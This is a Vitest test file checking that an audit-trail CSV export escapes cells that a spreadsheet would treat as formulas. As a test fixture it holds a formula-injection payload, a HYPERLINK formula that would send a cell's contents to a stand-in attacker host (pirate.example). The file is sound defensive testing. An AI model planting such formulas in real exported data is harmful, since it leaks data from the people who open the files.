import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { audit } from "../platform/audit.js";
import { createTestApp, type TestApp } from "../testing/testApp.js";

/** The audit CSV a DPO downloads: no cell a spreadsheet would run as a formula. */
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const FORMULA = '=HYPERLINK("http://pirate.example/?d="&A1;"Ouvrir")';

describe("the audit trail exported as CSV", () => {
  it("neutralises a request id or a subject that starts like a formula", async () => {
    const dpo = await t.loginAs("dpo.basrhin");
    // Anyone chooses their request id (x-request-id): one made of dashes and digits is accepted.
    expect((await dpo.request({ method: "GET", url: "/api/audit-events?pageSize=1", headers: { "x-request-id": "-2-3-4-5-6-7" } })).statusCode).toBe(200);
    // Whatever an event carries is written the same way.
    const [u] = await t.db.query<{ id: string; organisation_id: string }>("SELECT id, organisation_id FROM users WHERE email = 'dpo.basrhin@demo.tandem.fr'");
    await t.db.transaction((tx) =>
      audit(tx, { user: { id: u.id, email: "dpo.basrhin@demo.tandem.fr", firstName: "Dpo", lastName: "Basrhin", organisationId: u.organisation_id, roles: ["dpo"] }, requestId: "+33-test-1", ip: "@1" }, {
        action: "test.formula",
        subjectType: "job_seeker",
        subjectId: FORMULA,
      }),
    );

    const res = await dpo.get("/api/audit-events/export.csv");
    expect(res.statusCode).toBe(200);
    const lines = res.body.split("\r\n");
    const searched = lines.find((l) => l.includes("-2-3-4-5-6-7"))!;
    expect(searched.split(";")).toContain("'-2-3-4-5-6-7");
    const formula = lines.find((l) => l.includes("test.formula"))!;
    expect(formula).toContain(`;"'=HYPERLINK(""http://pirate.example/?d=""&A1;""Ouvrir"")";`);
    expect(formula).toContain(";'+33-test-1;'@1");
    // No cell of the file starts like a formula.
    for (const line of lines) expect(line, line).not.toMatch(/(^|;)"?[=+\-@]/);
  });
});
